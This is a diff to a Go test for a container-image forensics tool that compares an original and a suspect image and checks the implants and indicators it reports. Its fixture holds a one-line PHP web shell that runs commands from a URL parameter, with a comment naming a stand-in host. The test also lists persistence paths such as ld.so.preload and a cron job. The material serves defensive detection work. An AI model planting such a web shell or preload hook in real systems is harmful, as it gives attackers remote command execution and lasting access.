@@ -54,7 +54,7 @@ func TestReportPerfPair(t *testing.T) {
 	app := imagebuild.Layer{CreatedBy: "COPY app /srv/app # buildkit", Created: time.Date(2024, 3, 1, 1, 0, 0, 0, time.UTC), Files: []imagebuild.File{
 		imagebuild.Dir("srv"), imagebuild.Dir("srv/app"), imagebuild.Reg("srv/app/run.py", "print('perf')\n"),
 		// Flagged, but the original holds it too: no implant of the suspect's.
-		imagebuild.Reg("srv/app/admin.php", "<?php system($_GET['c']); ?>\n")}}
+		imagebuild.Reg("srv/app/admin.php", "<?php // mirror http://192.0.2.10/tools\nsystem($_GET['c']); ?>\n")}}
 	original := saveImage(t, imagebuild.Image{Tags: []string{"example.test/perf:1"}, Layers: []imagebuild.Layer{perfBase("perf"), app}})
 	suspect := saveImage(t, imagebuild.Image{Tags: []string{"example.test/perf:2"}, Layers: []imagebuild.Layer{perfBase("perf"), app, perfImplant()}})
 	var others []string
@@ -101,6 +101,12 @@ func TestReportPerfPair(t *testing.T) {
 			t.Errorf("summary line of %s lacks what, step or history line: %+v", im.Path, im)
 		}
 	}
+	for _, im := range sm.Implants {
+		// ld.so.preload names the hooking library, itself an implant.
+		if im.Path == "/etc/ld.so.preload" && !strings.Contains(im.What, "runs /usr/lib/libgcwrap.so, another implant") {
+			t.Errorf("the summary line of /etc/ld.so.preload does not say it runs the library: %q", im.What)
+		}
+	}
 	for _, p := range []string{"/etc/cron.d/perfclean", "/tmp/.perf.c/perfcc", "/usr/lib/libgcwrap.so", "/etc/ld.so.preload", "/etc/passwd", "/usr/bin/ps"} {
 		if !named[p] {
 			t.Errorf("the summary does not name the implant %s: %+v", p, sm.Implants)
@@ -134,6 +140,12 @@ func TestReportPerfPair(t *testing.T) {
 		t.Errorf("the RUN chmod whose layer wrote files is not marked: %+v", sm.Contradictions)
 	}
 
+	// What a flagged file the original holds too contains is no indicator of the suspect's.
+	for _, ind := range r.Indicators {
+		if strings.Contains(ind.Value, "192.0.2.10") || strings.HasSuffix(ind.Context, " /srv/app/admin.php") {
+			t.Errorf("indicator %s:%s comes from a file the original holds too (%s)", ind.Kind, ind.Value, ind.Context)
+		}
+	}
 	generic := map[string]bool{"/etc/passwd": true, "/etc/shadow": true, "/etc/ssh/sshd_config": true, "/usr/bin/ps": true}
 	for _, ind := range r.Indicators {
 		if ind.Kind == "path" && generic[ind.Value] {
